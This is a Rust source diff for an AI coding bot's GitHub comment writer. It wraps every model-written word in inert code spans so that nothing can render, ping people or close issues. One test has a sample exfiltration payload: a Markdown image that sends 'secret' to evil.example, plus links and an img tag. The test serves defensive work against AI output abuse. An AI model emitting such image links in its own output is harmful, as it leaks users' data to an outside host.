@@ -1,6 +1,9 @@
 //! What the bot writes: one progress comment, edited in place as the run goes (the plan
 //! as checkboxes, a link to the Actions run, then the result), and the draft pull
-//! request's body. Every text carries [`MARKER`] so wright never reads it as a request.
+//! request's body. Every text carries [`MARKER`] so wright never reads it as a request,
+//! and every word wright did not write goes in as inert text ([`inert`]).
+
+mod inert;
 
 use crate::MARKER;
 
@@ -89,7 +92,7 @@ fn checklist(plan: &[(String, StepState)]) -> String {
 }
 
 fn result(o: &Outcome) -> String {
-    let mut out = format!("- **Verdict:** `{}`: {}\n", o.verdict, one_line(&o.verdict_reason));
+    let mut out = format!("- **Verdict:** {}: {}\n", one_line(&o.verdict), one_line(&o.verdict_reason));
     let tests = |t: &Option<String>| t.as_deref().map(one_line).unwrap_or_else(|| "not run".into());
     out.push_str(&format!(
         "- **Tests before:** {}\n- **Tests after:** {}\n",
@@ -101,7 +104,7 @@ fn result(o: &Outcome) -> String {
         commits => {
             out.push_str("- **Commits:**\n");
             for c in commits {
-                out.push_str(&format!("  - `{}`\n", one_line(c).replace('`', "'")));
+                out.push_str(&format!("  - {}\n", one_line(c)));
             }
         }
     }
@@ -120,9 +123,8 @@ fn result(o: &Outcome) -> String {
 
 /// The draft pull request's title: the task's first line, kept short.
 pub fn pull_title(task_line: &str, issue: u64) -> String {
-    let line = one_line(task_line);
-    let short: String = line.chars().take(72).collect();
-    if short.trim().is_empty() { format!("wright: work on #{issue}") } else { format!("wright: {short}") }
+    let short = inert::plain(task_line, 72);
+    if short.is_empty() { format!("wright: work on #{issue}") } else { format!("wright: {short}") }
 }
 
 /// The draft pull request's body.
@@ -147,33 +149,20 @@ pub fn pull_body(progress: &Progress, issue: u64) -> String {
     out
 }
 
-/// Text the model wrote, as a quote: it cannot start headings or close the comment's
-/// structure.
+/// Text the model wrote, as a quote of inert lines: it cannot start headings, close the
+/// comment's structure, or render.
 fn quote(text: &str) -> String {
-    text.lines().take(40).map(|l| format!("> {}\n", defuse(l))).collect()
+    let line = |l: &str| match inert::code(l, 1000) {
+        span if span.is_empty() => ">\n".to_string(),
+        span => format!("> {span}\n"),
+    };
+    text.lines().take(40).map(line).collect()
 }
 
-/// One line of someone else's words (the model's, a verdict's), made safe to post: no
-/// mention, no hidden text, no issue link.
+/// One line of someone else's words (the model's, a verdict's, a command's), made inert
+/// to post: a code span that renders nothing, pings no one and links no issue.
 pub fn one_line(text: &str) -> String {
-    let line = text.split_whitespace().collect::<Vec<_>>().join(" ");
-    let cut: String = line.chars().take(300).collect();
-    defuse(&cut)
-}
-
-/// The model's words and the verdict's may not ping people, hide text, or link an
-/// issue (a `Fixes #12` in a merged pull request would close it).
-fn defuse(text: &str) -> String {
-    let text = text.replace("<!--", "&lt;!--").replace('@', "@\u{200B}");
-    let mut out = String::with_capacity(text.len());
-    let mut chars = text.chars().peekable();
-    while let Some(c) = chars.next() {
-        out.push(c);
-        if c == '#' && chars.peek().is_some_and(char::is_ascii_digit) {
-            out.push('\u{200B}');
-        }
-    }
-    out
+    inert::code(text, 300)
 }
 
 #[cfg(test)]
@@ -190,7 +179,7 @@ mod tests {
         let working = p.render();
         assert!(working.starts_with(MARKER), "{working}");
         assert!(working.contains("is working on this ([Actions run](https://gh/o/r/actions/runs/1))"), "{working}");
-        assert!(working.contains("- [x] Read parse()\n- [ ] Fix it ← now\n"), "{working}");
+        assert!(working.contains("- [x] `Read parse()`\n- [ ] `Fix it` ← now\n"), "{working}");
         p.outcome = Some(Outcome {
             verdict: "not_fixed".into(),
             verdict_reason: "test_parse still fails".into(),
@@ -199,7 +188,7 @@ mod tests {
             ..Outcome::default()
         });
         let done = p.render();
-        assert!(done.contains("`not_fixed`: test_parse still fails"), "{done}");
+        assert!(done.contains("`not_fixed`: `test_parse still fails`"), "{done}");
         assert!(done.contains("(budget cap hit: max_steps = 3)"), "{done}");
     }
 
@@ -207,12 +196,64 @@ mod tests {
     fn the_models_words_cannot_ping_or_hide() {
         let p = Progress { failure: Some("ask @admin <!-- x".into()), ..Progress::default() };
         let text = p.render();
-        assert!(!text.contains("@admin") && !text.contains("<!-- x"), "{text}");
+        assert!(text.contains("> `ask @\u{200B}admin <!-- x`"), "{text}");
         let body = pull_body(&p, 4);
         assert!(body.ends_with("Closes #4\n"), "{body}");
         let said = Outcome { summary: "Fixes #12 as well".into(), ..Outcome::default() };
         let body = pull_body(&Progress { outcome: Some(said), ..Progress::default() }, 4);
         assert!(body.contains("Fixes #\u{200B}12") && !body.contains("Fixes #12"), "{body}");
         assert_eq!(pull_title("", 4), "wright: work on #4");
+    }
+
+    /// `markdown` without its code spans: what renders as Markdown.
+    fn prose(markdown: &str) -> String {
+        let mut out = String::new();
+        let mut rest = markdown;
+        while let Some(at) = rest.find('`') {
+            out.push_str(&rest[..at]);
+            let run = rest[at..].len() - rest[at..].trim_start_matches('`').len();
+            let after = &rest[at + run..];
+            let fence = "`".repeat(run);
+            // The next run of exactly this many backticks closes the span.
+            let close = (0..after.len()).filter(|&i| after.is_char_boundary(i)).find(|&i| {
+                after[i..].starts_with(&fence) && !after[i + run..].starts_with('`') && !after[..i].ends_with('`')
+            });
+            match close {
+                Some(i) => rest = &after[i + run..],
+                None => {
+                    out.push_str(&rest[at..at + run]);
+                    rest = after;
+                }
+            }
+        }
+        out + rest
+    }
+
+    #[test]
+    fn nothing_the_model_wrote_renders() {
+        let evil = "see ![x](https://evil.example/?d=secret) [click](https://evil.example) \
+                    https://evil.example/leak <img src=x> ``` `x` ";
+        let outcome = Outcome {
+            verdict: "fixed".into(),
+            verdict_reason: evil.into(),
+            tests_before: Some(evil.into()),
+            commits: vec![format!("abc1234 {evil}")],
+            stopped: evil.into(),
+            summary: format!("{evil}\n\n{evil}"),
+            ..Outcome::default()
+        };
+        let progress = Progress {
+            plan: vec![(evil.into(), StepState::Done)],
+            outcome: Some(outcome),
+            failure: Some(evil.into()),
+            ..Progress::default()
+        };
+        for text in [progress.render(), pull_body(&progress, 4)] {
+            let shown = prose(&text);
+            for bad in ["![", "](", "evil.example", "<img", "https://"] {
+                assert!(!shown.contains(bad), "{bad} renders in:\n{text}\nprose:\n{shown}");
+            }
+            assert!(text.contains("[click](https://evil.example)"), "the words are still there: {text}");
+        }
     }
 }
